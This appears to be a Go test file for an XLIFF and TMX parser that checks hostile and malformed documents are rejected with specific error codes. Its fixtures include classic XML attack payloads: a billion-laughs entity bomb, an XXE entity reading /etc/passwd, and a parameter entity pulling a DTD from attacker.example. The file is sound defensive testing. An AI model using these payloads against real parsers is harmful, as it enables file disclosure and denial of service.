package interchange

import (
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/cotejo/cotejo/internal/cotejo"
)

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE xliff [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="a" source-language="es" datatype="plaintext"><body>
<trans-unit id="q1"><source>&lol3;</source></trans-unit></body></file></xliff>`

const xxe = `<?xml version="1.0"?>
<!DOCTYPE xliff [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="a" source-language="es" datatype="plaintext"><body>
<trans-unit id="q1"><source>&x;</source></trans-unit></body></file></xliff>`

const xxeParameter = `<?xml version="1.0"?>
<!DOCTYPE tmx [ <!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p; ]>
<tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence" o-tmf="x" adminlang="en" srclang="es" datatype="plaintext"/><body/></tmx>`

const small12 = `<?xml version="1.0" encoding="UTF-8"?>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="article-1" source-language="es" target-language="en" datatype="plaintext"><body>
<trans-unit id="q1"><source>¿Qué?</source><target state="new">What?</target></trans-unit>
<trans-unit id="q2"><source>¡Sí!</source><target state="new">Yes!</target></trans-unit>
</body></file></xliff>`

const smallTMX = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd">
<tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence" o-tmf="x" adminlang="en" srclang="es" datatype="plaintext"/><body>
<tu><tuv xml:lang="es"><seg>¿Qué?</seg></tuv><tuv xml:lang="en"><seg>What?</seg></tuv></tu>
<tu><tuv xml:lang="es"><seg>¡Sí!</seg></tuv><tuv xml:lang="en"><seg>Yes!</seg></tuv></tu>
</body></tmx>`

func deep(n int) string {
	return `<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="a" source-language="es" datatype="plaintext"><body><trans-unit id="q1"><source>` +
		strings.Repeat("<g>", n) + "x" + strings.Repeat("</g>", n) + `</source></trans-unit></body></file></xliff>`
}

// TestHostileInput feeds both parsers what an attacker or a broken tool
// would send, and wants a clear error of the right code for each.
func TestHostileInput(t *testing.T) {
	type parser func(io.Reader, Limits) error
	xliff := func(r io.Reader, l Limits) error { _, err := ParseXLIFF(r, l); return err }
	tmx := func(r io.Reader, l Limits) error { _, err := ParseTMX(r, l); return err }
	for _, c := range []struct {
		name  string
		parse parser
		doc   string
		lim   Limits
		code  cotejo.Code
		msg   string // a part of the message
	}{
		{"billion laughs", xliff, billionLaughs, Limits{}, cotejo.CodeInvalid, "declares entities"},
		{"xxe", xliff, xxe, Limits{}, cotejo.CodeInvalid, "declares entities"},
		{"xxe parameter entity", tmx, xxeParameter, Limits{}, cotejo.CodeInvalid, "declares entities"},
		{"undeclared entity", xliff, strings.Replace(small12, "¿Qué?", "&nbsp;", 1), Limits{}, cotejo.CodeMalformed, "line 3"},
		{"truncated xliff", xliff, small12[:len(small12)-40], Limits{}, cotejo.CodeMalformed, "truncated"},
		{"truncated tmx", tmx, smallTMX[:len(smallTMX)-30], Limits{}, cotejo.CodeMalformed, "truncated"},
		{"truncated in a tag", xliff, small12[:200], Limits{}, cotejo.CodeMalformed, "line"},
		{"mismatched tags", xliff, strings.Replace(small12, "</source>", "</target>", 1), Limits{}, cotejo.CodeMalformed, "line 3"},
		{"too deep", xliff, deep(100), Limits{}, cotejo.CodeTooLarge, "more than 64 deep"},
		{"too deep, custom", xliff, deep(10), Limits{MaxDepth: 8}, cotejo.CodeTooLarge, "more than 8 deep"},
		{"too many units", xliff, small12, Limits{MaxUnits: 1}, cotejo.CodeTooLarge, "more than 1 units"},
		{"too many tus", tmx, smallTMX, Limits{MaxUnits: 1}, cotejo.CodeTooLarge, "more than 1 units"},
		{"oversize", xliff, small12, Limits{MaxBytes: 100}, cotejo.CodeTooLarge, "larger than 100 bytes"},
		{"text too long", tmx, smallTMX, Limits{MaxTextLen: 4}, cotejo.CodeTooLarge, "longer than 4 characters"},
		{"invalid utf-8", xliff, strings.Replace(small12, "¿Qué?", "Qu\xe9", 1), Limits{}, cotejo.CodeInvalidUTF8, "line 3"},
		{"utf-16", tmx, "\xff\xfe<\x00t\x00", Limits{}, cotejo.CodeInvalidUTF8, "UTF-16"},
		{"latin-1 declared", xliff, strings.Replace(small12, "UTF-8", "ISO-8859-1", 1), Limits{}, cotejo.CodeUnsupportedMedia, "only UTF-8"},
		{"wrong root for xliff", xliff, smallTMX, Limits{}, cotejo.CodeUnsupportedMedia, "root element is <tmx>"},
		{"wrong root for tmx", tmx, small12, Limits{}, cotejo.CodeUnsupportedMedia, "root element is <xliff>"},
		{"html", xliff, "<html><body>hi</body></html>", Limits{}, cotejo.CodeUnsupportedMedia, "<html>"},
		{"xliff 3", xliff, `<xliff version="3.0" xmlns="urn:oasis:names:tc:xliff:document:3.0"/>`, Limits{}, cotejo.CodeUnsupportedMedia, "3.0"},
		{"empty", xliff, "  \n", Limits{}, cotejo.CodeMalformed, "empty"},
		{"not xml", tmx, "just text", Limits{}, cotejo.CodeMalformed, "not XML"},
		{"only a comment", tmx, "<!-- nothing -->", Limits{}, cotejo.CodeMalformed, "no XML element"},
		{"second root", xliff, small12 + "<xliff/>", Limits{}, cotejo.CodeMalformed, "second root"},
		{"garbage after root", tmx, smallTMX + "junk", Limits{}, cotejo.CodeMalformed, "outside its root"},
		{"unit without id", xliff, strings.Replace(small12, `id="q1"`, "", 1), Limits{}, cotejo.CodeInvalid, "line 3"},
		{"other directive", xliff, `<!ELEMENT x ANY>` + small12[strings.Index(small12, "<xliff"):], Limits{}, cotejo.CodeMalformed, "not allowed"},
		{"control character", xliff, strings.Replace(small12, "¿Qué?", "a\x01b", 1), Limits{}, cotejo.CodeMalformed, "line 3"},
	} {
		t.Run(c.name, func(t *testing.T) {
			err := c.parse(strings.NewReader(c.doc), c.lim)
			if err == nil {
				t.Fatal("no error")
			}
			e := cotejo.AsError(err)
			if e == nil {
				t.Fatalf("%v is not a *cotejo.Error", err)
			}
			if e.Code != c.code || !strings.Contains(e.Message, c.msg) {
				t.Errorf("error = %s %q, want %s with %q", e.Code, e.Message, c.code, c.msg)
			}
		})
	}
}

// TestTMXDoctypeAccepted: the DOCTYPE every TMX tool writes is fine, and
// nothing is fetched (a SYSTEM id pointing at the network changes nothing).
func TestTMXDoctypeAccepted(t *testing.T) {
	for _, doctype := range []string{
		`<!DOCTYPE tmx SYSTEM "tmx14.dtd">`,
		`<!DOCTYPE tmx SYSTEM "http://unreachable.invalid/tmx14.dtd">`,
		`<!DOCTYPE tmx PUBLIC "-//LISA OSCAR:1998//DTD for Translation Memory eXchange//EN" "tmx14.dtd">`,
	} {
		doc := strings.Replace(smallTMX, `<!DOCTYPE tmx SYSTEM "tmx14.dtd">`, doctype, 1)
		units, err := ParseTMX(strings.NewReader(doc), Limits{})
		if err != nil || len(units) != 2 {
			t.Errorf("%s: %d units, %v", doctype, len(units), err)
		}
	}
}

// TestLimitsAtTheEdge: exactly at a limit is allowed.
func TestLimitsAtTheEdge(t *testing.T) {
	doc, err := ParseXLIFF(strings.NewReader(small12), Limits{MaxBytes: int64(len(small12)), MaxUnits: 2, MaxTextLen: 5})
	if err != nil || len(doc.Units) != 2 || doc.Units[0].Source != "¿Qué?" || doc.Units[1].Target != "Yes!" {
		t.Errorf("at the limits: %+v, %v", doc, err)
	}
	doc, err = ParseXLIFF(strings.NewReader(deep(58)), Limits{}) // 58 + 6 = 64 levels
	if err != nil || len(doc.Units) != 1 || doc.Units[0].Source != "x" {
		t.Errorf("64 levels deep: %+v, %v", doc, err)
	}
	// A byte order mark is allowed and ignored.
	units, err := ParseTMX(bytes.NewReader(append([]byte("\xEF\xBB\xBF"), smallTMX...)), Limits{})
	if err != nil || len(units) != 2 || units[0].Source != (cotejo.LangText{Text: "¿Qué?", Lang: "es"}) {
		t.Errorf("with a BOM: %+v, %v", units, err)
	}
}
